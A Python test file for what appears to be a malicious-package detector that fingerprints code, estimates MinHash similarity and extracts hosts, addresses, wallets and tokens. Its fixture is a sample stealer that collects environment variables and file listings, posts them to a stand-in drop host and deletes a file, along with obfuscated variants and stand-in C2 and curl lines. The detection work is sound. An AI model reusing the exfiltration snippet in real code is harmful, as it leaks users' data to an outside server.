"""The normal form, its fingerprints, MinHash and indicators."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.compare.names import own_roots
from pratique.known.indicators import Indicator, indicators, within
from pratique.known.minhash import WIDTH, bands, pack, signature, similarity, stable_hash, unpack
from pratique.known.prints import fingerprint
from pratique.known.texts import normal
from pratique.known.tokens import streams
from pratique.languages import front_end

BASE = b"""
import os, requests
from acme.util import note

def collect(where, extra=None):
    found = {}
    for name in ("HOME", "USER", "PATH"):
        found[name] = os.environ.get(name)
    found["files"] = [os.path.join(where, one) for one in os.listdir(where)]
    note(found)
    answer = requests.post("https://drop.acme.invalid/in", json=found, timeout=9, headers={"X-Key": "abc"})
    if answer.status_code == 200:
        os.remove(os.path.join(where, "mark"))
    return answer.text
"""
SAME = {
    "comments and docstring": BASE.replace(b"    found = {}", b'    """Collect."""\n    # of course\n    found = {}'),
    "formatting": BASE.replace(b"    found = {}", b"\n\n    found = (\n        {}\n    )").replace(
        b", json=", b",json = "
    ),
    "local names": BASE.replace(b"found", b"qq1").replace(b"answer", b"zz").replace(b"where", b"w"),
    "function name": BASE.replace(b"collect", b"helper7"),
    "import alias": BASE.replace(b"import os, requests", b"import os\nimport requests as r_").replace(
        b"requests.post", b"r_.post"
    ),
    "from import": BASE.replace(b"import os, requests", b"import os\nfrom requests import post").replace(
        b"requests.post", b"post"
    ),
    "another address": BASE.replace(b"https://drop.acme.invalid/in", b"http://192.0.2.7:8080/collect?x=1"),
    "own package renamed": BASE.replace(b"acme.util", b"other.util"),
    "a text split": BASE.replace(b'"files"', b'"fi" + "les"'),
    "a text encoded once": b"import base64" + BASE.replace(b'"files"', b'base64.b64decode("ZmlsZXM=").decode()'),
    "another encoding": b"# coding: utf-16\n",
}


def prints(source: bytes, own: frozenset[str] = frozenset({"acme", "other"})):
    reader = front_end("python")
    assert reader is not None

    return fingerprint(reader.read(source), own)


@pytest.mark.parametrize("how", SAME)
def test_what_a_campaign_changes_changes_no_fingerprint(how):
    """Names, comments, formatting, addresses and one more encoding leave file and function as they were."""
    changed = BASE.decode().encode("utf-8-sig") if how == "another encoding" else SAME[how]
    assert changed != BASE

    assert prints(changed).digest == prints(BASE).digest
    assert [one.digest for one in prints(changed).functions] == [one.digest for one in prints(BASE).functions]


@pytest.mark.parametrize(
    ("before", "after"),
    [(b"os.remove", b"os.chmod"), (b"json=", b"data="), (b'"USER"', b'"SHELL"'), (b"== 200", b"== 404")],
)
def test_what_code_does_is_in_its_fingerprint(before, after):
    """Another call, argument, short text or small number is other code, but still like it."""
    one, other = prints(BASE).functions[0], prints(BASE.replace(before, after)).functions[0]

    assert one.digest != other.digest
    assert 0.6 < similarity(one.signature, other.signature) < 1


def test_other_code_is_not_alike():
    other = b"""
import json
def load(path, strict=False, encoding="utf-8"):
    with open(path, encoding=encoding) as handle:
        data = json.load(handle)
    if strict and not isinstance(data, dict):
        raise ValueError("a table is wanted")
    return {key: value for key, value in sorted(data.items()) if not key.startswith("_")}
"""

    assert similarity(prints(BASE).functions[0].signature, prints(other).functions[0].signature) < 0.2


def test_declared_metadata_is_no_code():
    """Two setup scripts that differ in what they declare are the same code."""
    text = (
        'import setuptools\nsetuptools.setup(name="{}", version="{}", description="{}", packages=["{}"], zip_safe=0)\n'
    )
    one, other = (text.format(*words).encode() for words in (("a", "1.0", "x y", "a"), ("bb", "9.9.9", "text", "bb")))

    assert prints(one).digest == prints(other).digest


def test_a_small_function_has_no_fingerprint_of_its_own():
    assert [one.name for one in prints(BASE + b"\ndef small():\n    return 1\n").functions] == ["collect"]


def test_a_nested_function_belongs_to_the_one_around_it():
    """The outer function changes with what is defined in it."""
    text = BASE.decode().replace("    note(found)", "    def inner(x):\n        return NAME(x)\n    note(inner(found))")
    one, other = (prints(text.replace("NAME", name).encode()).functions[0] for name in ("str", "repr"))

    assert one.name == other.name == "collect"
    assert one.digest != other.digest


def test_own_roots_of_the_usual_layouts():
    """A wheel's first folders, an sdist's below its own, a src layout's below that."""
    assert own_roots(["acme/__init__.py", "acme_x.py", "acme-1.0.dist-info/METADATA"]) == {"acme", "acme_x"}
    assert own_roots(["acme-1.0/setup.py", "acme-1.0/src/acme/a.py"]) == {"acme"}


def test_tokens_of_an_unread_body_are_none():
    reader = front_end("python")
    assert reader is not None
    facts = reader.read(b"")

    assert streams(facts) == [[]]


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("Mozilla/5.0 (X11)", "mozilla/0 (x0)"),
        ("see https://a.acme.invalid/x?y=1 or 192.0.2.1:80", "see <url> or <ip>"),
        ("drop.acme.invalid", "<host>"),
        ("mail me@acme.invalid", "mail <mail>"),
        ("deadbeefdeadbeefdeadbeef", "<blob>"),
        (base64.b64encode(bytes(range(60))).decode(), "<blob>"),
        ("setup.py", "setup.py"),
        ("x " * 200, "<text>"),
    ],
)
def test_the_normal_form_of_texts(text, form):
    assert normal(text) == form


@given(st.text(max_size=300))
def test_the_normal_form_is_bounded(text):
    assert len(normal(text)) <= 160


@given(st.integers(30, 400), st.floats(0.1, 0.95), st.integers(0, 10_000))
def test_the_estimate_is_near_the_true_index(size, share, seed):
    """Five standard errors of a signature of 64 components, for sets that share a known part."""
    common = round(size * share)
    one = {stable_hash(f"{seed} {n}") for n in range(size)}
    other = {stable_hash(f"{seed} {n}") for n in range(size - common, 2 * size - common)}
    true = len(one & other) / len(one | other)

    assert abs(similarity(signature(one), signature(other)) - true) < 0.35


def test_the_estimate_has_no_bias():
    """Over many pairs of sets the mean estimate is the true index."""
    true = 50 / 150
    found = [
        similarity(
            signature(stable_hash(f"{n} {at}") for at in range(100)),
            signature(stable_hash(f"{n} {at}") for at in range(50, 150)),
        )
        for n in range(300)
    ]

    assert sum(found) / len(found) == pytest.approx(true, abs=0.02)


@given(st.sets(st.integers(0, (1 << 64) - 1), max_size=80))
def test_signatures_survive_being_stored(hashes):
    sign = signature(hashes)

    assert unpack(pack(sign)) == sign
    assert len(sign) == (WIDTH if hashes else 0)
    assert bands(sign) == bands(unpack(pack(sign)))


def test_nothing_is_like_nothing():
    assert signature(()) == ()
    assert similarity((), ()) == 0
    assert bands(()) == ()


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl http://x1.acme.invalid:8080/a -o b", {("host", "x1.acme.invalid")}),
        ("drop.acme.invalid", {("host", "drop.acme.invalid")}),
        ("http://203.0.113.9/x", {("address", "203.0.113.9")}),
        ("203.0.113.9:4444", {("address", "203.0.113.9")}),
        ("http://127.0.0.1:80/x http://10.1.2.3/", set()),
        ("https://github.com/acme/tool/raw/main/a.bin?x", {("page", "github.com/acme/tool/raw/main")}),
        ("https://github.com", set()),
        ("http://www.w3.org/2001/XMLSchema http://purl.org/dc/terms", set()),
        ("https://sub.googleapis.com/", set()),
        ("0x" + "ab" * 20, {("wallet", "0x" + "ab" * 20)}),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", {("wallet", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2")}),
        ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", set()),
        ("123456789:" + "A" * 35, {("token", "123456789:" + "A" * 35)}),
        ("os.path.join", set()),
        ("version 1.2.3", set()),
    ],
)
def test_indicators_in_texts(text, found):
    assert {(one.kind, one.text) for one in within(text)} == found


def test_declared_links_are_no_indicators():
    """A link in `setup()` may be anybody's; the one that code contacts is the author's."""
    reader = front_end("python")
    assert reader is not None
    facts = reader.read(
        b"from setuptools import setup\nimport requests\nrequests.get('http://c2.acme.invalid/x')\n"
        b"setup(name='a', url='https://home.acme.invalid', project_urls={'Docs': 'https://docs.acme.invalid/x'})\n"
    )

    assert indicators(facts) == {Indicator(kind="host", text="c2.acme.invalid"): 3}


def test_an_indicator_is_kept_as_a_digest_of_kind_and_text():
    one, other = Indicator(kind="host", text="a.invalid"), Indicator(kind="page", text="a.invalid")

    assert len(one.digest) == 8
    assert one.digest != other.digest
